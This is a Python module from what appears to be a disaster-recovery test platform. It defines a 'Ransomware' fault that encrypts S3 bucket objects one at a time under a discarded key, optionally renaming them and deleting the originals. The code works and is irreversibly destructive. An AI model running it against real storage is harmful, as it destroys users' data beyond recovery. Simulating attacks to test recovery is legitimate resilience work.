"""Somebody encrypts the users' files, slowly, amid their ordinary work."""

import os
import threading
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from drplatform.faults import _files
from drplatform.model import ports


@dataclass(frozen=True)
class Ransomware(_files.OnObjects):
    """The objects of a bucket are encrypted under a key that is thrown away: a share at a time (`begin` moves on), `pace` seconds each.

    With `suffix` they are renamed, too, as many of these programs do.
    """

    suffix: str = ""
    pace: float = 0.0

    kind = "ransomware"

    def hurt(self, scene: ports.Scene, s3: Any, bucket: str, key: str) -> None:
        nonce = os.urandom(12)
        sealed = nonce + AESGCM(AESGCM.generate_key(256)).encrypt(nonce, _files.read(s3, bucket, key), None)
        s3.put_object(Bucket=bucket, Key=key + self.suffix, Body=sealed)
        if self.suffix:
            s3.delete_object(Bucket=bucket, Key=key)
        scene.clock.wait(threading.Event(), self.pace)


FAULT = Ransomware
